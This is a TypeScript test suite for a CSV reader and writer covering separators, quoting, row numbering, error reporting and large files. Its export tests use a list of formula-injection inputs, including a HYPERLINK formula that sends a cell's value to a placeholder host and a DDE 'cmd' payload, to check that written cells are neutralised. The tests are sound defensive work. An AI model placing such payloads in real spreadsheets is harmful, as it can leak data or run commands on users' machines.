import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { asWritten, withoutFormula } from '#shared/csv/formulas.ts';
import { letterOf, readCsv } from '#shared/csv/read.ts';
import { writeCsv } from '#shared/csv/write.ts';

const isHeading = (name: string) => ['id', 'name', 'team'].includes(name.toLowerCase());
const read = (text: string) => readCsv(text, isHeading);

/** The headings and the rows of a text, each row with its number. */
function table(text: string) {
  const found = read(text);
  if (!found.ok) throw new Error(`Row ${found.row}: ${found.reason}`);
  return [found.headings, ...found.rows].map(({ row, cells }) => [row, ...cells]);
}

const plain = [
  [1, 'id', 'name', 'team'],
  [2, 'a1', 'Ana', 'Red'],
];

describe('a table is read the same', () => {
  test.each([
    ['with commas', 'id,name,team\na1,Ana,Red\n'],
    ['with semicolons', 'id;name;team\na1;Ana;Red\n'],
    ['with tabs', 'id\tname\tteam\na1\tAna\tRed\n'],
    ['with the line in which a spreadsheet names its separator', 'sep=;\r\nid;name;team\r\na1;Ana;Red\r\n'],
    ['with that line in quotation marks', '"sep=\t"\r\nid\tname\tteam\r\na1\tAna\tRed\r\n'],
    ['with the line ends of Windows', 'id,name,team\r\na1,Ana,Red\r\n'],
    ['with those of an old Mac', 'id,name,team\ra1,Ana,Red\r'],
    ['with both in one file', 'id,name,team\r\na1,Ana,Red\n'],
    ['without a line end at its end', 'id,name,team\na1,Ana,Red'],
    ['with every cell in quotation marks', '"id","name","team"\n"a1","Ana","Red"\n'],
    ['with blank lines at its end', 'id,name,team\na1,Ana,Red\n\n\n'],
    ['with rows of separators at its end', 'id,name,team\na1,Ana,Red\n,,\n,,\n'],
    ['with rows of blanks at its end', 'id,name,team\na1,Ana,Red\n , ,\t\n'],
  ])('%s', (_what, text) => {
    expect(table(text)).toEqual(plain);
  });
});

describe('what a cell holds stays as it is', () => {
  test.each([
    ['the separator', 'id,name,team\na1,"Lee, Ana",Red', 'Lee, Ana'],
    ['another separator', 'id;name;team\na1;Lee, Ana;Red', 'Lee, Ana'],
    ['quotation marks', 'id,name,team\na1,"Ana ""Annie"" Lee",Red', 'Ana "Annie" Lee'],
    ['a line end', 'id,name,team\na1,"Ana\nLee",Red', 'Ana\nLee'],
    ['a line end of Windows', 'id,name,team\r\na1,"Ana\r\nLee",Red\r\n', 'Ana\r\nLee'],
    ['blanks around it', 'id,name,team\na1, Ana ,Red', ' Ana '],
    ['nothing', 'id,name,team\na1,,Red', ''],
    ['nothing, in quotation marks', 'id,name,team\na1,"",Red', ''],
    ['zeros at the beginning', 'id,name,team\na1,007,Red', '007'],
    ['a word of a program', 'id,name,team\na1,constructor,Red', 'constructor'],
    ['a mark against formulas', "id,name,team\na1,'=1+1,Red", '=1+1'],
    ['an apostrophe of its own', "id,name,team\na1,'t Hooft,Red", "'t Hooft"],
  ])('%s', (_what, text, cell) => {
    expect(table(text)[1]?.[2]).toBe(cell);
  });
});

test('rows are counted as a spreadsheet counts them: with blank rows, and a cell of two lines is in one row', () => {
  const text = 'id,name,team\n\na1,"Ana\nLee",Red\n,,\na2,Ben,Red\n';
  expect(table(text).map(([row]) => row)).toEqual([1, 3, 5]);
  expect(table('\n\nid,name,team\na1,Ana,Red').map(([row]) => row)).toEqual([3, 4]);
});

test('the separator is the one that gives known headings, also when a heading holds more of another one', () => {
  expect(table('id;name;"team, unit, group, site"\na1;Ana;Red')[0]).toEqual([
    1,
    'id',
    'name',
    'team, unit, group, site',
  ]);
  expect(table('a,b;c;d;e\n')[0]).toEqual([1, 'a,b', 'c', 'd', 'e']);
});

describe('a file that cannot be read says where, and what to do', () => {
  test.each([
    ['nothing in it', '', null, /empty/],
    ['blank lines alone', '\n\n  \n', null, /empty/],
    ['a quotation mark inside a cell', 'id,name\na1,Ana "Annie" Lee\n', 2, /stands inside a cell.*twice/],
    ['text after a closing quotation mark', 'id,name\na0,Bo\na1,"Ana" Lee\n', 3, /follows a closing.*twice/],
    ['a quotation mark that is never closed', 'id,name\na1,"Ana\na2,Ben\n', 2, /never closed/],
    ['a cell of a megabyte', `id,name\na1,${'x'.repeat(1_000_000)}\n`, 2, /longer than 100,000 characters/],
    ['an open quotation mark before many rows', `id,name\na1,"Ana\n${'a2,Ben\n'.repeat(20_000)}`, 2, /not closed/],
  ])('%s', (_what, text, row, reason) => {
    const found = read(text);
    expect(found).toEqual({ ok: false, row, reason: expect.stringMatching(reason) });
  });
});

test('100,000 rows are read', () => {
  const rows = Array.from({ length: 100_000 }, (_, at) => `p${at},Name ${at},Team ${at % 40}`);
  const found = read(`id,name,team\n${rows.join('\n')}`);
  expect(found.ok && found.rows.length).toBe(100_000);
  expect(found.ok && found.rows.at(-1)).toEqual({ row: 100_001, cells: ['p99999', 'Name 99999', 'Team 39'] });
});

describe('what is written', () => {
  const hostile = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\uff1d1+1',
    'first\n=1+1',
    "'=1+1",
    "''=1+1",
    '=HYPERLINK("http://x.invalid?"&A1,"more")',
    'x;=HYPERLINK("http://x.invalid");y',
    "a;'=1",
    'a\t=1\t-2',
    "=cmd|' /C calc'!A0",
    "'t Hooft",
    'Ana, "Annie" Lee',
    'two\nlines',
    '',
    ' blanks ',
    'ÅŁ東京',
    '-',
  ];

  test('holds no cell that a spreadsheet runs as a formula', () => {
    const text = writeCsv(
      ['id'],
      hostile.map((cell) => [cell]),
    );
    const cells = table(text.slice(1).replaceAll("'", '’'))
      .slice(1)
      .map((row) => String(row[1]));
    for (const cell of cells) expect(cell.trimStart()).not.toMatch(/^[=+\-@\uff1d]/);
    // Where a spreadsheet separates by something else, each of these pieces is a cell.
    for (const cell of text.slice(1).split(/[\r\n;\t]/)) expect(cell.trimStart()).not.toMatch(/^[=+\-@\uff1d]/);
  });

  test('gives back any cell, whatever stands in it', () => {
    const piece = fc.constantFrom("'", '=', '-', ';', '\t', '\n', '\r\n', '\r', ' ', 'a', '"', ',', '\uff1d');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const cell = pieces.join('');
        expect(asWritten(withoutFormula(cell))).toBe(cell);
      }),
      { numRuns: 5000 },
    );
  });

  test('is read again as it was', () => {
    const rows = hostile.map((cell, at) => [`row ${at}`, cell, 'end']);
    const text = writeCsv(['id', 'name', 'team'], rows);
    expect(text.startsWith('\ufeff')).toBe(true);
    expect(table(text.slice(1)).map(([, ...cells]) => cells)).toEqual([['id', 'name', 'team'], ...rows]);
  });
});

test('a file of line ends or separators alone is refused, however small it was packed', () => {
  const refused = { ok: false, row: null, reason: expect.stringContaining('blank ones among them') };
  expect(readCsv(`id\n${'\n'.repeat(300_000)}`, () => true)).toEqual(refused);
  expect(readCsv(`id\n${`${','.repeat(90_000)}\n`.repeat(60)}`, () => true)).toEqual(refused);
}, 60_000);

test('a column has the letter that a spreadsheet shows', () => {
  expect([0, 25, 26, 51, 52, 701, 702].map(letterOf)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA']);
});
